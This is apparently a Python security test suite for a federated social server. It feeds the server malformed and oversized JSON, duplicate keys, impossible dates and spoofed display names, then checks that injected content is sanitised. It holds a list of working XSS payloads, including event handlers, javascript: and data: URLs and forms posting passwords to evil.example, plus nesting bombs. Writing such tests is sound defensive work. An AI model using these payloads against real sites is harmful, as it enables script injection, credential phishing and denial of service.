"""Attacks on readers: what is no document, what is far too much of one, and what people would be shown of it."""

import json
from collections.abc import Iterator
from typing import Any

import html5lib

from federation.vocab.base import PUBLIC
from server.actors.models import Actor
from server.posts.models import Post
from tests.hostile.attacks import Scene, attack
from tests.hostile.server import AS2

SCRIPT = "<script>alert(1)</script>"
FORBIDDEN_ELEMENTS = {"script", "style", "iframe", "object", "embed", "form", "base", "meta", "link", "svg", "math"}
UNSEEN = "\u202e\u202d\u2066\u2067\u200b\u200e\u200f\u2060\ufeff\u00ad\x07\x1b"

XSS = (
    SCRIPT,
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=https://evil.example><input name=password>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "</p></div></article></main><h1>Forged</h1>" + SCRIPT,
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7 * 7 }}{% for x in y %}",
    "\" onmouseover=alert(1) x=\"' autofocus onfocus=alert(1) '",
    "<a href=https://a.example target=_self rel=opener onclick=alert(1)>x</a>",
)


async def raw_bodies(scene: Scene, bodies: list[bytes]) -> None:
    """Deliver bytes that Eve signed; each is refused clearly, or has no effect."""
    for body in bodies:
        headers = scene.stage.signed(body, scene.eve, path=scene.inbox)
        response = await scene.stage.post(body, list(headers.items()), path=scene.inbox)
        assert response.status in (202, 400, 401, 403, 413), (response.status, body[:60])
    await scene.settled()
    assert "done" not in [outcome for outcome, _ in await scene.stage.outcomes(scene.site.host)]


def like(scene: Scene, **changes: Any) -> dict[str, Any]:
    """A Like of Eve's of what she may not like, so that it would show."""
    return {
        "@context": AS2,
        "id": scene.site.uri("l/1"),
        "type": "Like",
        "actor": scene.eve,
        "object": scene.stage.posts["private"].uri,
    } | changes


@attack("S12", "malformed too-complex", requests=2)
async def bytes_that_are_no_document(scene: Scene) -> None:
    good = json.dumps(like(scene)).encode()
    await raw_bodies(
        scene,
        [
            b"",
            b"\x00",
            b"\xff\xfe{\x00}\x00",
            b"null",
            b"[]",
            b'"x"',
            b"{",
            b"{}{}",
            b"\xef\xbb\xbf" + good,
            good[:-1],
            good + b"x",
            good.replace(b"Like", b"Li\xffke"),
            good.decode().encode("utf-16"),
            b"<xml/>",
            b"%PDF-1.4",
            b"id=1&type=Like",
        ],
    )


@attack("S12", "too-complex malformed", requests=2)
async def depth_and_numbers_beyond_measure(scene: Scene) -> None:
    def put(text: str) -> bytes:
        return json.dumps(like(scene, x="@")).replace('"@"', text).encode()

    await raw_bodies(
        scene,
        [
            put("[" * 100_000 + "]" * 100_000),
            put('{"a":' * 50_000 + "1" + "}" * 50_000),
            put("[" * 33 + "]" * 33),
            put("9" * 100_000),
            put("-" + "9" * 30),
            put("1e999"),
            put("1E-999999999999"),
            put("NaN"),
            put("Infinity"),
            put("-Infinity"),
            put("0x10"),
            put("1." + "0" * 5_000),
        ],
    )


@attack("S12", "malformed", requests=2)
async def keys_that_come_twice(scene: Scene) -> None:
    bodies = []
    for key, other in (
        ("actor", scene.stage.tom),
        ("id", scene.stage.quiet.uri("l/9")),
        ("type", "Delete"),
        ("object", scene.stage.posts["public"].uri),
        ("@context", AS2),
        ("to", PUBLIC),
    ):
        for text in (f'"{key}":{json.dumps(other)},', f'"\\u{ord(key[0]):04x}{key[1:]}":{json.dumps(other)},'):
            own = json.dumps(like(scene, to=[PUBLIC]))
            bodies += [("{" + text + own[1:]).encode(), (own[:-1] + "," + text.rstrip(",") + "}").encode()]
    await raw_bodies(scene, bodies)


@attack("S12", "malformed", requests=2)
async def half_characters_and_nul(scene: Scene) -> None:
    bodies = []
    for escape in ("\\ud800", "\\udfff\\ud800", "\\u0000", "x\\u0000y"):
        for key in ("content", "summary", "name"):
            bodies.append(json.dumps(like(scene) | {key: "@"}).replace('"@"', f'"{escape}"').encode())
        bodies.append(json.dumps(like(scene)).replace("l/1", f"l/{escape}").encode())
        bodies.append(json.dumps(like(scene, x=1)).replace('"x"', f'"{escape}"').encode())
    bodies.append(b'{"id":"\x00"}')
    await raw_bodies(scene, bodies)


@attack("S18 S12", "too-large too-complex", requests=2)
async def documents_beyond_measure(scene: Scene) -> None:
    await raw_bodies(
        scene,
        [
            json.dumps(like(scene, content="x" * (1024 * 1024))).encode(),
            json.dumps(like(scene, x=[0] * 60_000)).encode(),
            json.dumps(like(scene, x=[{}] * 60_000)).encode(),
            json.dumps(like(scene, x={str(number): 0 for number in range(60_000)})).encode(),
        ],
    )


def wrong(scene: Scene) -> Iterator[dict[str, Any]]:
    """Activities with something of another type in each of their places."""
    strange: list[Any] = [None, True, 0, -1, 2**53, 1.5, "", "x", [], {}, [[]], [None], {"id": None}, {"id": {"id": 1}}]
    strange += ["javascript:x", "http://", f"{scene.stage.tom}/" + "x" * 3_000, {"@value": {"@list": []}}, ["x"] * 500]
    for number, value in enumerate(strange):
        for key in ("type", "actor", "object", "to", "target")[number % 2 :: 2]:
            yield like(scene, id=scene.site.uri(f"w/{key}/{number}"), **{key: value})
        note = {"id": scene.site.uri(f"n/{number}"), "type": "Note", "attributedTo": scene.eve}
        keys = ("content", "name", "summary", "tag", "attachment", "url", "inReplyTo", "published", "oneOf")
        for key in keys[number % 3 :: 3]:
            changed = note | {"to": [scene.stage.quiet.uri("u/nobody")], key: value}
            yield like(scene, id=scene.site.uri(f"c/{key}/{number}"), type="Create", object=changed)


@attack("S12", "malformed nothing-to-do origin", requests=60, seconds=60)
async def other_types_in_every_place(scene: Scene) -> None:
    for document in wrong(scene):
        assert await scene.stage.send(document, by=scene.eve) in (202, 400, 401, 403)
    await scene.settled()
    reasons = [reason or "" for _, reason in await scene.stage.outcomes(scene.site.host)]
    assert not [reason for reason in reasons if reason.startswith(("TypeError", "ValueError", "KeyError", "Attribute"))]
    assert not [outcome for outcome, _ in await scene.stage.outcomes(scene.site.host) if outcome is None]


# An edit that tells no time and comes in the second of its post is asked for at its own server: once for each of nine.
@attack("S12", "", requests=2 + 9)
async def dates_that_cannot_be(scene: Scene) -> None:
    dates = ("0000-00-00T00:00:00Z", "9999-12-31T23:59:59+14:00", "2026-02-30T25:61:61Z", "-1", "1e10", "x" * 100_000)
    dates += ("2199-01-01T00:00:00Z", "1901-01-01T00:00:00Z", "2026-01-01T00:00:00.123456789123Z")
    for number, date in enumerate(dates):
        note = scene.note(f"n/{number}", published=date, updated=date, endTime=date, startTime=date, closed=date)
        assert await scene.send("Create", note, f"c/{number}", published=date) == 202
        note["content"] = "<p>Changed</p>"
        assert await scene.send("Update", note, f"u/{number}") == 202
    await scene.settled()
    rows = await scene.stage.here.run(
        scene.stage.here.db.rows,
        "SELECT post.published_at, post.edited_at FROM post JOIN actor ON actor.id = post.author_id"
        " WHERE actor.uri = :uri",
        uri=scene.eve,
    )
    soon = scene.stage.here.clock.now().timestamp() * 1000 + 20 * 60_000
    assert rows
    assert all(0 < row["published_at"] < soon and (row["edited_at"] or 0) < soon for row in rows)


@attack("S19", "", requests=4)
async def thousands_of_everything(scene: Scene) -> None:
    stage, bystander = scene.stage, scene.friend("bystander")
    uris = [bystander.uri(f"u/{number}") for number in range(4_000)]
    note = scene.note(
        "n/1",
        to=[PUBLIC, *uris[:2_000]],
        cc=uris,
        tag=[{"type": "Mention", "href": uri, "name": "@x"} for uri in uris[:2_000]]
        + [{"type": "Hashtag", "name": f"#t{number}"} for number in range(1_000)]
        + [{"type": "Emoji", "name": f":e{number}:", "icon": {"url": uris[number]}} for number in range(1_000)],
        attachment=[{"type": "Image", "mediaType": "image/png", "url": f"{uri}.png"} for uri in uris[:1_000]],
    )
    note["tag"].append({"type": "Mention", "href": stage.maya, "name": "@maya"})
    assert await scene.send("Create", note, "c/1") in (202, 400, 413)
    small = scene.note("n/2", tag=note["tag"][:2_500], attachment=note["attachment"][:400], cc=uris[:1_500])
    assert await scene.send("Create", small, "c/2") == 202
    await scene.settled()
    post = await stage.here.run(Post.get, uri=small["id"])
    for table in ("post_mention", "post_tag", "post_attachment"):
        query = f"SELECT count(*) AS n FROM {table} WHERE post_id = :id"
        assert await stage.here.run(stage.here.db.value, query, id=post.id) <= 100, table
    assert bystander.asked == []


async def pages_of(scene: Scene, uri: str) -> list[str]:
    """The pages that show a post and its author, as anybody gets them."""
    post = await scene.stage.here.run(Post.get, uri=uri)
    author = await scene.stage.here.run(Actor.get, id=post.author_id)
    paths = [
        f"/p/{post.short}",
        f"/p/x-{post.short}",
        f"/p/{post.short}/message",
        f"/@{author.username}@{author.domain}",
    ]
    pages = []
    for path in paths:
        response = await scene.stage.get(path, [("Accept", "text/html")])
        assert response.status < 500, path
        if response.status == 200:
            assert "default-src" in response.headers["content-security-policy"]
            assert response.headers["x-content-type-options"] == "nosniff"
            pages.append(response.body.decode())
    assert pages, paths
    return pages


@attack("S20 S26", "", requests=60, seconds=40)
async def scripts_in_every_field(scene: Scene) -> None:
    for number, evil in enumerate(XSS):
        fields = [{"type": "PropertyValue", "name": evil, "value": evil}]
        actor = scene.site.actor(f"u{number}", name=evil, summary=evil, attachment=fields, url=[{"href": evil}])
        note = scene.site.note(
            actor,
            f"n/{number}",
            evil,
            type="Article",
            name=evil,
            summary=evil,
            license=evil,
            location={"type": "Place", "name": evil},
            language=evil,
            url=[{"type": "Link", "mediaType": "text/html", "href": evil}],
            tag=[
                {"type": "Hashtag", "name": f"#{evil}"},
                {"type": "Emoji", "name": f":{evil}:", "icon": {"url": evil}},
            ],
            attachment=[{"type": "Image", "url": scene.site.uri("i.png"), "name": evil, "mediaType": evil}],
            source={"content": evil, "mediaType": "text/markdown"},
        )
        assert await scene.stage.send(scene.site.activity("Create", actor, note, f"c/{number}")) == 202
    await scene.settled()
    for number in range(len(XSS)):
        for page in await pages_of(scene, scene.site.uri(f"n/{number}")):
            _check_page(page)


def _check_page(page: str) -> None:
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    body = tree.find("body")
    assert body is not None
    for element in body.iter():
        if not isinstance(element.tag, str):
            continue
        names = {name.lower() for name in element.attrib if isinstance(name, str)}
        assert not {name for name in names if name.startswith("on")}, element.attrib
        assert element.tag not in {"iframe", "object", "embed", "base", "meta"} or element.tag == "meta", element.tag
        if element.tag == "script":
            assert element.get("src", "").startswith("/static/") or element.get("nonce"), "a script of theirs"
            assert "alert(1)" not in (element.text or "")
        if element.tag == "form":
            assert not element.get("action", "").startswith(("http", "//")), element.attrib
        for name in ("href", "src", "action", "formaction", "poster"):
            address = "".join(element.get(name, "").lower().split())
            assert not address.startswith(("javascript:", "data:text", "vbscript:")), address
        assert "style" not in names or element.tag in {"svg", "path"}, element.attrib


@attack("S10", "", requests=24)
async def names_that_pretend(scene: Scene) -> None:
    stage = scene.stage
    names = (
        f"Maya{UNSEEN}",
        f"{UNSEEN}maya@{stage.here.settings.domain}",
        "\u202eayaM",
        "Zalgo" + "\u0301" * 500,
        "M" * 5_000,
        "\u2066" * 50,
        "Maya\n\nAdmin",
    )
    for number, name in enumerate(names):
        actor = scene.site.actor(f"u{number}", name=name, url=stage.origin + "/@maya", summary=f"<p>{name}</p>")
        note = scene.site.note(actor, f"n/{number}", f"<p>{name}</p>", url=f"{stage.origin}/p/x")
        assert await stage.send(scene.site.activity("Create", actor, note, f"c/{number}")) == 202
    await scene.settled()
    for number in range(len(names)):
        actor_row = await stage.here.run(Actor.get, uri=scene.site.uri(f"u/u{number}"))
        assert not set(UNSEEN) & set(actor_row.name)
        assert "\n" not in actor_row.name
        assert len(actor_row.name) <= 200
        assert not actor_row.url.startswith(stage.origin)
        post = await stage.here.run(Post.get, uri=scene.site.uri(f"n/{number}"))
        assert not post.url.startswith(stage.origin)
